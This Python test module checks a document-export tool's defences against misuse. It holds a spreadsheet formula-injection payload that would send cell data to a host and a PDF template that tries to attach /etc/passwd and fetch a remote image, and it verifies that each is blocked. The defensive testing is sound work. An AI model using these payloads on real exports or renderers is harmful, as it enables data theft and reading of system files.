"""Fault and misuse cases of issue 13 for exports and briefs, as bench/faults.py runs them.

    .venv/bin/python bench/faults.py formula fetch disk     # through faults.py's table
    .venv/bin/python bench/faults_briefs.py                  # these cases alone, same table

faults.py lists them after its own (CASES += faults_briefs.CASES).

Each case takes a fresh folder and returns (expected, observed, held), like faults.py's.
- formula: a stored subject `=HYPERLINK(…)` exported as XLSX (must be a text cell, no formula)
  and CSV (neutralised with a leading apostrophe; `--raw` keeps it exactly);
- pdf_template_fetch: a user template asking for file:///etc/passwd as an attachment and for an
  image from a local HTTP server; the PDF brief must hold neither and the server see nothing;
- full_out_disk: `process` with --out on a full 64 KiB tmpfs: every document stored, each brief
  a one-line failure, no traceback, no *.tmp left (needs root to mount the tmpfs).
"""

from __future__ import annotations

import http.server
import os
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

Result = tuple[str, str, bool]
EVIL = '=HYPERLINK("http://127.0.0.1:9/?x="&A2,"Bấm vào đây")'


def _pdf(path: Path, n: int) -> Path:
    from dispatch_reader.synth import render_text_pdf

    from faults import _TEXT  # the probe's one decision text (faults.py imports this module at its end)

    path.write_bytes(render_text_pdf(_TEXT.format(n=n, d=1 + n % 9)))
    return path


def _run(work: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full = dict(os.environ, PYTHONPATH=str(ROOT), COLUMNS="400", XDG_CACHE_HOME=str(work / "cache"),
                XDG_DATA_HOME=str(work / "data"), XDG_CONFIG_HOME=str(work / "config"), **(env or {}))
    full.pop("DISPATCH_READER_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "dispatch_reader", *args], cwd=work, env=full,
                          capture_output=True, text=True, timeout=300)


def formula(work: Path) -> Result:
    from dispatch_reader.pipeline import extract_file
    from dispatch_reader.store import open_store

    db = f"sqlite:///{work / 'db.sqlite3'}"
    record = extract_file(_pdf(work / "qd.pdf", 1))
    record.document.subject = EVIL
    with open_store(db) as store:
        store.save(record, page_texts=[EVIL], extractor_version="bench")
    _run(work, "export", "documents", "--format", "xlsx", "--out", "d.xlsx", "--db", db)
    _run(work, "export", "documents", "--format", "csv", "--out", "d.csv", "--db", db)
    _run(work, "export", "documents", "--format", "csv", "--raw", "--out", "raw.csv", "--db", db)
    with zipfile.ZipFile(work / "d.xlsx") as z:
        sheet = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    formulas = sheet.count("<f>") + sheet.count("<f ")
    csv_text, raw_text = (work / "d.csv").read_text("utf-8-sig"), (work / "raw.csv").read_text("utf-8-sig")
    neutral = "\"'=HYPERLINK(" in csv_text
    exact = "\"=HYPERLINK(" in raw_text
    observed = f"{formulas} XLSX formulas; CSV {'neutralised' if neutral else 'raw'}; --raw {'exact' if exact else 'changed'}"
    return "0 XLSX formulas; CSV neutralised; --raw exact", observed, formulas == 0 and neutral and exact


def pdf_template_fetch(work: Path) -> Result:
    import pikepdf

    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    templates = work / "templates"
    templates.mkdir()
    (templates / "document.html.j2").write_text(
        '{% extends "default/document.html.j2" %}{% block body %}{{ super() }}'
        '<link rel="attachment" href="file:///etc/passwd">'
        f'<img src="http://127.0.0.1:{port}/x.png?n={{{{ d.number }}}}">{{% endblock %}}', "utf-8")
    try:
        done = _run(work, "brief", str(_pdf(work / "qd.pdf", 2)), "--format", "pdf", "--out", "b.pdf",
                    "--templates", str(templates), "--db", f"sqlite:///{work / 'db.sqlite3'}")
    finally:
        server.shutdown()
        server.server_close()
    if not (work / "b.pdf").exists():
        return "no passwd in the PDF, 0 requests", f"no PDF (exit {done.returncode})", False
    with pikepdf.open(work / "b.pdf") as pdf:
        attached = len(pdf.attachments)
        leaked = any(b"root:" in o.read_bytes() for o in pdf.objects if isinstance(o, pikepdf.Stream))
    observed = f"{attached} attachments, passwd {'in' if leaked else 'not in'} the PDF, {len(seen)} requests"
    return "0 attachments, passwd not in the PDF, 0 requests", observed, not attached and not leaked and not seen


def full_out_disk(work: Path) -> Result:
    out = work / "briefs"
    out.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(out)], capture_output=True)
    if mounted.returncode:
        return "3 stored, 4 one-line brief failures", "not run: cannot mount a tmpfs (needs root)", False
    try:
        (out / "filler").write_bytes(b"\0" * (60 << 10))  # the disk is nearly full before the run
        inbox = work / "in"
        inbox.mkdir()
        for n in range(3):
            _pdf(inbox / f"qd-{n}.pdf", 10 + n)
        done = _run(work, "process", str(inbox), "--out", str(out), "--db", f"sqlite:///{work / 'db.sqlite3'}")
        lines = [line for line in done.stderr.splitlines() if "brief not written" in line]
        tmp = list(out.glob("*.tmp"))
        bad = "Traceback" in done.stderr or "internal error" in done.stdout + done.stderr
        stored = "3 processed" in done.stdout
    finally:
        subprocess.run(["umount", str(out)], capture_output=True)
    observed = (f"exit {done.returncode}; {'3 stored' if stored else 'not all stored'}; {len(lines)} brief failures; "
                f"{len(tmp)} *.tmp; {'traceback or internal error' if bad else 'one line each'}")
    return ("exit 1; 3 stored; 4 brief failures; 0 *.tmp; one line each", observed,
            done.returncode == 1 and stored and len(lines) == 4 and not tmp and not bad)


CASES = [formula, pdf_template_fetch, full_out_disk]


if __name__ == "__main__":
    import faults

    faults.CASES[:] = CASES
    sys.exit(faults.main(sys.argv[1:]))
